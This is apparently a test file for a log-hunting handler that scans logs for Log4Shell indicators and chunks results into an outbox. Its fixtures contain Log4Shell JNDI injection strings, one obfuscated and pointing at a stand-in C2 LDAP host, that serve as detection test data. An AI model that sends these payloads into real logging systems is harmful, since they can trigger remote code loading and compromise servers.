import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { HuntCommand, KindResults, PROTOCOL_LIMITS, type HuntResults } from '@log4fleet/contracts';
import { Outbox } from '../daemon/outbox';
import type { KindRun } from '../daemon/kinds/kind-handler';
import { HuntHandler } from './hunt-handler';

const CMD = '0b0e6c1e-0000-4000-8000-0000000000aa';

function command(overrides: Partial<HuntCommand>): HuntCommand {
  return { ...HuntCommand.fromPartial({}), ...overrides };
}

function kindRun(signal = new AbortController().signal): KindRun & { events: string[] } {
  const events: string[] = [];
  const log = {
    info: () => undefined,
    warn: () => undefined,
    error: () => undefined,
    debug: () => undefined,
    child: () => log,
  };
  return {
    commandId: CMD,
    log: log as unknown as KindRun['log'],
    signal,
    started: () => events.push('started'),
    writing: () => events.push('writing'),
    events,
  };
}

describe('HuntHandler', () => {
  let dir: string;
  let outbox: Outbox;
  const handler = (): HuntHandler =>
    new HuntHandler({
      outbox,
      jvmLogFiles: () => Promise.resolve([]),
      jvmConnections: () => Promise.resolve([]),
    });

  beforeEach(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'hunt-handler-'));
    outbox = await Outbox.open(path.join(dir, 'outbox'));
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  async function results(): Promise<HuntResults[]> {
    const chunks = await Promise.all((await outbox.list()).map((e) => outbox.read(e)));
    return chunks.map((c) => {
      const kind = c?.kindResults?.kind;
      if (kind?.$case !== 'hunt') throw new Error(`not hunt results: ${kind?.$case}`);
      return kind.value;
    });
  }

  it('hunts the given logs and puts hits, the C2 match and a summary in the outbox', async () => {
    await writeFile(
      path.join(dir, 'app.log'),
      'ok\n2021-12-10 10:00:00 ua=${${::-j}ndi:ldap://x.c2.example:1389/a}\n',
    );
    const run = kindRun();
    const n = await handler().run(
      command({ paths: [path.join(dir, 'app.log')], indicatorC2: ['C2.example'] }),
      run,
    );
    expect(n).toBe(1);
    expect(run.events).toEqual(['started', 'writing']);
    const [part] = await results();
    expect(part.hits).toEqual([
      expect.objectContaining({
        kind: 'jndi',
        line: 2,
        decoded: '${jndi:ldap://x.c2.example:1389/a}',
        target: expect.objectContaining({
          protocol: 'ldap',
          host: 'x.c2.example',
          port: 1389,
          callbackHost: 'x.c2.example',
        }),
        indicatorType: 'c2',
        indicatorValue: 'c2.example',
      }),
    ]);
    expect(part.summary).toMatchObject({ files: 1, hits: 1, lines: 2 });
  });

  it('splits many hits into parts that each fit a chunk, the summary in the last', async () => {
    const line = (i: number): string =>
      `${'x'.repeat(1500)} \${jndi:ldap://h${i}.example/${'p'.repeat(500)}}`;
    await writeFile(
      path.join(dir, 'many.log'),
      Array.from({ length: 2000 }, (_, i) => line(i)).join('\n'),
    );
    const n = await handler().run(command({ paths: [dir] }), kindRun());
    const parts = await results();
    expect(parts).toHaveLength(n);
    expect(n).toBeGreaterThan(2);
    for (const p of parts)
      expect(
        KindResults.encode({ kind: { $case: 'hunt', value: p } }).finish().length,
      ).toBeLessThanOrEqual(PROTOCOL_LIMITS.kindResultsBytes);
    expect(parts.flatMap((p) => p.hits)).toHaveLength(2000);
    expect(parts.map((p) => p.summary !== undefined)).toEqual([...Array(n - 1).fill(false), true]);
  });

  it.each([
    [{ paths: ['relative/log'] }, 'path "relative/log" is not absolute'],
    [{ indicatorHashes: ['abc'] }, 'indicator_hashes[0] is not an MD5, SHA-1 or SHA-256 hash'],
    [{ paths: Array(65).fill('/var/log') }, 'paths has 65 entries, at most 64'],
    [{ maxLineBytes: 1 << 30 }, 'max_line_bytes 1073741824 is over'],
  ])('fails a command beyond the limits, naming the field: %j', async (overrides, message) => {
    const run = kindRun();
    await expect(handler().run(command(overrides), run)).rejects.toThrow(message);
    expect(run.events).toEqual([]);
    expect(await outbox.count()).toBe(0);
  });

  it('stops when cancelled, writing nothing', async () => {
    await writeFile(path.join(dir, 'a.log'), 'x\n');
    const abort = new AbortController();
    abort.abort();
    await expect(handler().run(command({ paths: [dir] }), kindRun(abort.signal))).rejects.toThrow(
      'hunt cancelled',
    );
    expect(await outbox.count()).toBe(0);
  });
});
